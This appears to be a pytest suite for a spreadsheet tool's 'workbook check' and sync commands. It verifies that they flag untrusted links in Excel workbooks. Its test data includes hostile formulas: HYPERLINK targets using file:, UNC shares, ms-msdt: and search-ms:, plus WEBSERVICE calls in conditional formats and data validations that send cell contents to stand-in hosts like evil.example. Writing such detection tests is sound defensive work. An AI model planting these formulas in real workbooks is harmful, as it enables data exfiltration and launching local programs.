"""Every link that leaves the machine is part of the workbook's trust boundary: a HYPERLINK
whose target is not one literal http:, https: or mailto: text (a target built when Excel
calculates, a cell, another scheme: file:, \\\\server, ms-msdt:, mk:), a cell hyperlink
(Insert → Link) to such an address, and a network function inside a conditional-format rule
or a data validation are named by `cims workbook check`, and every sync refuses them.
A literal https link, a mailto: link and a #Sheet!A1 link inside the workbook are not
named. Workbooks are built by the test and planted with openpyxl."""
from __future__ import annotations

import openpyxl
import pytest
from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation

from cims_xl.excel.build import build_bytes
from cims_xl.excel.trust import UntrustedWorkbook
from cims_xl.services import records

UNTRUSTED = UntrustedWorkbook.exit_code


@pytest.fixture(scope="module")
def shipped() -> bytes:
    return build_bytes()


def _book(tmp_path, shipped, plant):
    path = tmp_path / "book.xlsm"
    path.write_bytes(shipped)
    wb = openpyxl.load_workbook(path, keep_vba=True)
    if "Notes" not in wb.sheetnames:
        wb.create_sheet("Notes")
    plant(wb["Notes"])
    wb.save(path)
    return path


def _check(run, path):
    code, out, err = run("workbook", "check", str(path))
    return code, " ".join((out + err).split())


HYPERLINKS = [
    '=HYPERLINK("fi"&"le:///C:/Windows/System32/calc.exe","Open")',
    '=HYPERLINK(CHAR(92)&CHAR(92)&"evil\\s","x")',
    '=HYPERLINK(Z1,"x")',
    '=HYPERLINK(Target,"x")',
    '=HYPERLINK(IF(Z1="","https://a.example","file:///C:/x"),"x")',
    '=HYPERLINK("ms-msdt:/id PCWDiagnostic /skip force","Fix it")',
    '=HYPERLINK("mk:@MSITStore:\\\\evil\\x.chm::/a.htm")',
    '=HYPERLINK("search-ms:query=x&crumb=location:\\\\evil\\s","Suchen")',
    '=HYPERLINK("C:\\Windows\\System32\\calc.exe","報告")',
    '=HYPERLINK("Preise.xlsx","Preise")',
    '=IF(A1,"-",HYPERLINK("FILE:///c:/x"))',
    '=HYPERLINK(" https://a.example","x")',
]


@pytest.mark.parametrize("formula", HYPERLINKS)
def test_a_hyperlink_whose_target_is_not_a_literal_web_or_mail_address_is_named(run, tmp_path, shipped, formula):
    def plant(ws):
        ws["Z1"] = "\\\\evil\\share"
        ws["B4"] = formula
    code, said = _check(run, _book(tmp_path, shipped, plant))
    assert code == UNTRUSTED, said
    assert "Notes!B4" in said and "HYPERLINK" in said, said


@pytest.mark.parametrize("target", ["file:///C:/Windows/calc.exe", "\\\\evil\\share\\x.docx",
                                    "ms-msdt:/id PCWDiagnostic", "Preise.xlsx"])
def test_a_cell_hyperlink_to_anything_but_a_web_or_mail_address_is_named(run, tmp_path, shipped, target):
    def plant(ws):
        ws["C3"] = "Open"
        ws["C3"].hyperlink = target
    code, said = _check(run, _book(tmp_path, shipped, plant))
    assert code == UNTRUSTED, said
    assert "Notes!C3" in said and "hyperlink" in said, said


CF_AND_DV = [
    ("conditional format", lambda ws: ws.conditional_formatting.add("A1:A9", FormulaRule(
        formula=['LEN(WEBSERVICE("http://evil3/"&Customers!$E$2))>0']))),
    ("conditional format", lambda ws: ws.conditional_formatting.add("B1:B9", ColorScaleRule(
        start_type="formula", start_value='LEN(_xlfn.WEBSERVICE("http://evil/"&B1))', start_color="FF0000",
        end_type="max", end_color="00FF00"))),
    ("data validation", lambda ws: ws.add_data_validation(DataValidation(
        type="custom", formula1='LEN(WEBSERVICE("https://evil.example/?v="&A1))>0', sqref="D1:D9"))),
    ("data validation", lambda ws: ws.add_data_validation(DataValidation(
        type="list", formula1='FILTERXML(WEBSERVICE("https://evil.example/l.xml"),"//a")', sqref="E2"))),
]


@pytest.mark.parametrize("where,plant", CF_AND_DV)
def test_a_network_function_in_a_conditional_format_or_data_validation_is_named(
        run, tmp_path, shipped, where, plant):
    code, said = _check(run, _book(tmp_path, shipped, plant))
    assert code == UNTRUSTED, said
    assert where in said and "WEBSERVICE" in said and "Notes!" in said, said


@pytest.mark.parametrize("action", ["save", "refresh"])
def test_sync_refuses_a_cell_hyperlink_a_built_hyperlink_and_a_validation_fetch_before_writing(
        run, admin, tmp_path, shipped, action):
    records.create(admin, "customer", {"name": "Chloé Thomas", "email": "chloe@example.fr"})

    def plant(ws):
        ws["B4"] = '=HYPERLINK("fi"&"le:///C:/Windows/System32/calc.exe","Open")'
        ws["C3"] = "Open"
        ws["C3"].hyperlink = "file:///C:/Windows/calc.exe"
        ws.add_data_validation(DataValidation(type="custom", formula1='LEN(WEBSERVICE("http://e/"&A1))>0',
                                              sqref="D1"))
    book = _book(tmp_path, shipped, plant)
    before = book.read_bytes()
    code, out, err = run("sync", str(book), action)
    said = " ".join(err.split())
    assert code == UNTRUSTED, out + err
    assert "Notes!B4" in said and "Notes!C3" in said and "data validation on Notes!D1" in said, said
    assert book.read_bytes() == before


def test_literal_web_mail_and_in_workbook_links_are_not_named_beside_one_planted_link(run, tmp_path, shipped):
    def plant(ws):
        ws["A1"] = '=HYPERLINK("https://intranet.example/crm","\\\\not-a-target")'
        ws["A2"] = '=HYPERLINK("mailto:ventas@example.es","Escríbenos")'
        ws["A3"] = '=HYPERLINK("#Home!A1","Home")'
        ws["A4"] = '=HYPERLINK("#\'"&A9&"\'!A1",A9)'
        ws["A5"] = '=HYPERLINK( "HTTPS://example.jp/" ,"日本")'
        ws["A6"] = "Web"
        ws["A6"].hyperlink = "https://example.com/a?b=c"
        ws["A7"] = "Mail"
        ws["A7"].hyperlink = "mailto:a@example.com"
        ws["A8"] = "Here"
        ws["A8"].hyperlink = openpyxl.worksheet.hyperlink.Hyperlink(ref="A8", location="Home!A1")
        ws.conditional_formatting.add("C1:C9", FormulaRule(formula=['LEN($C1)>3']))
        ws.add_data_validation(DataValidation(type="list", formula1='"Sí,No,WEBSERVICE"', sqref="D1"))
        ws["B9"] = '=HYPERLINK("file:///C:/x","planted")'
    code, said = _check(run, _book(tmp_path, shipped, plant))
    assert code == UNTRUSTED, said
    assert said.count("HYPERLINK") == 1 and "Notes!B9" in said, said
    assert "hyperlink in" not in said and "conditional format" not in said and "data validation" not in said, said


def test_the_workbook_cims_builds_has_no_link_or_rule_finding(run, tmp_path, shipped):
    code, said = _check(run, _book(tmp_path, shipped, lambda ws: None))
    assert code == 0, said
